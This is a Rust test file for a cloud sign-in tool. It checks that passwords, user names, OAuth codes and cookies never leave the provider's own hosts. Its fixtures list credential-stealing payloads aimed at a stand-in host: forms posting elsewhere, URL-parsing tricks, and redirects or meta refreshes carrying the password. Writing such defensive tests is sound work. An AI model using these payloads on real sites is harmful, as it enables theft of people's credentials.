//! Pages that would have user name, password, cookies or the code go to somebody else, who hears
//! of none of it.

use super::bad_pages::{Elsewhere, last, tell};
use super::*;
use crate::common::snapshot;

/// What the page before the password says; `ELSEWHERE` is the other host and its port.
const FIRST_PAGES: [(&str, &str); 9] = [
    ("a form that posts to another host", "<form method=post action='http://ELSEWHERE/x'>FIELDS"),
    ("a form that asks another host", "<form action='http://ELSEWHERE/x'>FIELDS"),
    ("an address without a scheme", "<form method=post action='//ELSEWHERE/x'>FIELDS"),
    ("an address with backslashes", r"<form method=post action='\\ELSEWHERE\x'>FIELDS"),
    ("an address in two lines", "<form method=post action='\n/\t/ELSEWHERE/x'>FIELDS"),
    ("a host behind an at sign", "<form method=post action='http://127.0.0.1@ELSEWHERE/x'>FIELDS"),
    (
        "a button that posts to another host",
        "<form method=post action=/own>FIELDS<button formaction='http://ELSEWHERE/x'>Sign in</button>",
    ),
    (
        "a form of two parts",
        "<form id=f method=post action='http://ELSEWHERE/x'></form><input form=f name=user>\
         <input form=f type=password name=p>",
    ),
    (
        "a base at another host",
        "<base href='http://ELSEWHERE/'><base href='/'><form method=post action='/x'>FIELDS",
    ),
];

/// Where the cloud redirects to after the password.
const REDIRECTS: [(&str, u16, &str); 12] = [
    ("307 to another host", 307, "http://ELSEWHERE/x"),
    ("308 to another host", 308, "http://ELSEWHERE/x"),
    ("the password in a redirect", 302, "http://ELSEWHERE/x?p=PASSWORD"),
    ("the password in a path", 302, "http://ELSEWHERE/PASSWORD/x"),
    ("the password in a fragment", 302, "http://ELSEWHERE/x#p=PASSWORD"),
    ("the password encoded twice", 302, "http://ELSEWHERE/x?u=http%3A%2F%2Fx%2F%3FTWICE"),
    ("the user name in a redirect", 302, "http://ELSEWHERE/x?login_hint=USER"),
    ("the user name in a path", 302, "http://ELSEWHERE/of/USER/x"),
    ("the password before a host", 302, "http://u:PASSWORD@ELSEWHERE/"),
    ("a code for another host", 302, "http://ELSEWHERE/x?code=CODE&state=STATE"),
    ("a code and no state for another host", 303, "http://ELSEWHERE/x?code=CODE"),
    ("a redirect to another host", 302, "http://ELSEWHERE/x"),
];

/// What the page after the password says.
const LAST_PAGES: [(&str, &str); 6] = [
    (
        "the password in a refresh",
        "<meta http-equiv=refresh content='0; url=http://ELSEWHERE/x?p=PASSWORD'>",
    ),
    (
        "the password in a hidden field",
        "<form method=post action='http://ELSEWHERE/x'><input type=hidden name=p value='PASSWORD'>\
         <button>Continue</button></form>",
    ),
    (
        "both in a form by script",
        "<form action='http://ELSEWHERE/x' enctype='multipart/form-data' method=post><input \
         type=hidden name=x value='USER:PASSWORD'></form><script></script>",
    ),
    (
        "a code in a refresh",
        "<meta http-equiv=refresh content='0; url=http://ELSEWHERE/x?code=CODE'>",
    ),
    (
        "a code posted to another host",
        "<form method=post action='http://ELSEWHERE/x'><input type=hidden name=code value=CODE>\
         </form><script></script>",
    ),
    ("a refresh to another host", "<meta http-equiv=refresh content='0; url=http://ELSEWHERE/x'>"),
];

/// Fills a text in as a cloud could that wants the other host to know.
fn write_out(text: &str, asked: &Asked, elsewhere: &str, is_address: bool) -> String {
    let encode = |text: &str| {
        let encoded =
            percent_encoding::utf8_percent_encode(text, percent_encoding::NON_ALPHANUMERIC);
        encoded.to_string()
    };
    let [user, password] = [asked.form("email"), asked.form("password")]
        .map(|value| if is_address { encode(&value) } else { value });
    text.replace("ELSEWHERE", elsewhere)
        .replace("USER", &user)
        .replace("TWICE", &encode(&password))
        .replace("PASSWORD", &password)
        .replace("CODE", CODE)
        .replace("STATE", &asked.query("state"))
        .replace("FIELDS", "<input name=user><input name=p type=password>")
}

/// Whatever the page says, user name and password go to the cloud's own hosts alone.
#[test]
fn nothing_goes_to_another_host() {
    let elsewhere = Elsewhere::start();
    let other = elsewhere.url.trim_start_matches("http://").to_owned();
    let mut cases: Vec<(&str, Box<Habit>)> = Vec::new();
    for (what, html) in FIRST_PAGES {
        let other = other.clone();
        cases.push((
            what,
            Box::new(move |asked| Answer::page(&write_out(html, asked, &other, false))),
        ));
    }
    for (what, status, place) in REDIRECTS {
        let other = other.clone();
        cases.push((
            what,
            last(move |asked| Answer::to(status, &write_out(place, asked, &other, true))),
        ));
    }
    for (what, html) in LAST_PAGES {
        let other = other.clone();
        cases.push((what, last(move |asked| Answer::page(&write_out(html, asked, &other, false)))));
    }
    let told = tell(cases, &elsewhere);
    snapshot("providers-another-host", &told);
    let heard = elsewhere.provider.asked();
    ensure_told_nothing(&heard);
    // The plain ways there, which tell it nothing, and one with nothing left before the host.
    let paths: Vec<_> =
        heard.iter().map(|asked| (asked.method.as_str(), asked.path.as_str())).collect();
    assert_eq!(paths, [("GET", "/"), ("GET", "/x"), ("GET", "/x")]);
}

/// A page of somebody else's may ask, and gets nothing.
#[test]
fn a_sign_in_page_of_another_host_gets_nothing() {
    let sandbox = Sandbox::new();
    let bystander = Provider::answering(|_| Answer::page(SIGN_IN));
    let elsewhere = bystander.by_other_name();
    let provider = Provider::with(move |asked| {
        asked.is("GET", "/auth").then(|| Answer::to(302, &format!("{elsewhere}/sign-in")))
    });
    let ran = provider.link(&sandbox, "").expect_code(1);
    ran.expect_stdout("which is not the cloud's host");
    assert_eq!(bystander.asked().len(), 1);
    ensure_told_nothing(&bystander.asked());
}

/// A redirect in place of tokens, userinfo or devices is not followed: code, secret and access
/// token stay where they were sent.
#[test]
fn what_follows_the_redirect_is_asked_of_its_own_endpoints_alone() {
    for (path, status) in
        [("/token", 307), ("/token", 302), ("/userinfo", 302), ("/smarthome", 308)]
    {
        let sandbox = Sandbox::new();
        let bystander = Provider::bystander();
        let elsewhere = format!("{}/collect", bystander.by_other_name());
        let provider = Provider::with(move |asked| {
            (asked.path == path).then(|| Answer::to(status, &elsewhere))
        });
        let flags = format!("--userinfo-url {}/userinfo", provider.url);
        let flags = if path == "/userinfo" { flags.as_str() } else { "" };
        let ran = provider.link(&sandbox, flags).expect_code(1);
        assert!(ran.stdout.contains("a redirect to `http://localhost:"), "{}", ran.text());
        assert!(bystander.asked().is_empty(), "{path} {status}");
    }
}

/// The password in characters of the page, in a field of any name: not even `-v` shows it.
#[test]
fn a_password_in_other_characters_is_shown_nowhere() {
    let sandbox = Sandbox::new();
    let bystander = Provider::bystander();
    let elsewhere = bystander.by_other_name();
    let provider = Provider::with(move |asked| {
        Some(match asked.method.as_str() {
            "GET" => Answer::new(
                200,
                "text/html; charset=iso-8859-1",
                "<form method=post><input name=u1><input type=password name=kennwort>",
            ),
            _ => Answer::to(302, &format!("{elsewhere}/?u=p%E4ssw%F6rter-1815")),
        })
    });
    for part in ["pässwörter-1815", "p%E4ssw%F6rter", "p\u{fffd}ssw"] {
        sandbox.hide(part);
    }
    let line = provider.line("-v").replace(PASSWORD, "pässwörter-1815");
    let ran = sandbox.run(&line).expect_code(1).expect_stdout("which is not the cloud's host");
    assert!(ran.stderr.contains("kennwort=[redacted]"), "{}", ran.text());
    let sent = provider.asked_at("POST", "/auth")[0].body();
    assert!(sent.ends_with("kennwort=p%E4ssw%F6rter-1815"), "{sent}");
    assert!(bystander.asked().is_empty());
}

/// Another port is another server, though cookies do not know ports.
#[test]
fn another_port_is_another_host() {
    let bystander = Provider::bystander();
    let sandbox = Sandbox::new();
    let action = format!("{}/x", bystander.url);
    let provider = Provider::with(move |asked| {
        let form = SIGN_IN.replace("<form", &format!("<form action='{action}'"));
        asked.is("GET", "/auth").then(|| Answer::page(&form))
    });
    let ran = provider.link(&sandbox, "").expect_code(1);
    ran.expect_stdout("which is not the cloud's host");
    assert!(bystander.asked().is_empty());
}

/// A password in the query is the cloud's own doing; it does not go on from there.
#[test]
fn a_form_that_asks_by_get_gives_the_password_to_its_own_host_alone() {
    let elsewhere = Elsewhere::start();
    let picture = format!("{}/picture", elsewhere.url);
    let sandbox = Sandbox::new();
    let provider = Provider::with(move |asked| match asked.path.as_str() {
        "/auth" => Some(
            Answer::page(&SIGN_IN.replace("method=post", "action=/in"))
                .cookie(&format!("ask={}", asked.query.replace('&', "|"))),
        ),
        "/in" => {
            assert_eq!(
                (asked.query("email"), asked.query("password")),
                (USERNAME.into(), PASSWORD.into())
            );
            Some(Answer::to(307, &picture))
        }
        _ => None,
    });
    provider.link(&sandbox, "").expect_code(1);
    let heard = elsewhere.provider.asked();
    assert_eq!(heard.len(), 1);
    ensure_told_nothing(&heard);
}

/// User information before a host is nobody's sign-in, and is not sent.
#[test]
fn a_redirect_with_a_sign_in_before_the_host_goes_on_without_it() {
    let sandbox = Sandbox::new();
    let provider = Provider::with(|asked| match asked.path.as_str() {
        "/auth" if asked.method == "GET" => {
            Some(Answer::to(302, &format!("http://user:pass@{}/in?{}", asked.host, asked.query)))
        }
        "/in" if asked.method == "GET" => Some(Answer::page(SIGN_IN)),
        "/in" if signs_in(asked) => Some(Answer::to(302, &back(&asked.query, ""))),
        _ => None,
    });
    provider.link(&sandbox, "").expect_code(0);
    for asked in provider.asked().iter().filter(|asked| asked.path == "/in") {
        assert_eq!((asked.header("authorization"), asked.host.contains('@')), ("", false));
    }
}

/// Cookies for others are not kept, and those of the cloud's own stay with it.
#[test]
fn cookies_stay_with_the_hosts_that_may_have_them() {
    const CLOUD: &str = "login.cloud.co.uk";
    let sandbox = Sandbox::new();
    let provider = Provider::with(|asked| {
        Some(match (asked.host.as_str(), asked.path.as_str()) {
            (CLOUD, "/auth") if asked.method == "GET" => Answer::page(SIGN_IN)
                .cookie("own=1; Path=/")
                .cookie("wide=2; Domain=cloud.co.uk; Path=/")
                .cookie("suffix=3; Domain=co.uk; Path=/")
                .cookie("dotted=4; Domain=.uk; Path=/")
                .cookie("stolen=5; Domain=other.co.uk; Path=/")
                .cookie("safe=6; Path=/; Secure")
                .cookie(&format!("who={USERNAME}; Domain=cloud.co.uk; Path=/"))
                .cookie("pass=lovelace%201815%2B; Domain=cloud.co.uk; Path=/"),
            (CLOUD, "/auth") => {
                let own = format!("own=1; wide=2; who={USERNAME}; pass=lovelace%201815%2B");
                assert_eq!(asked.cookies(), own);
                Answer::to(302, &format!("http://www.cloud.co.uk/sso?{}", asked.query))
            }
            ("www.cloud.co.uk", "/sso") => {
                assert_eq!(asked.cookies(), "wide=2");
                Answer::to(302, &format!("http://other.co.uk/logo?{}", asked.query))
            }
            ("other.co.uk", "/logo") => {
                Answer::to(302, &format!("http://{CLOUD}/done?{}", asked.query))
            }
            (CLOUD, "/done") => Answer::to(302, &back(&asked.query, "")),
            _ => return None,
        })
    });
    let line = provider.line("").replacen(&provider.url, &format!("http://{CLOUD}"), 1);
    sandbox.run_with(&line, |command| provider.stand_for_every_host(command)).expect_code(0);
    let heard = provider.asked_of("other.co.uk");
    assert_eq!(heard.len(), 1);
    ensure_told_nothing(&heard);
}
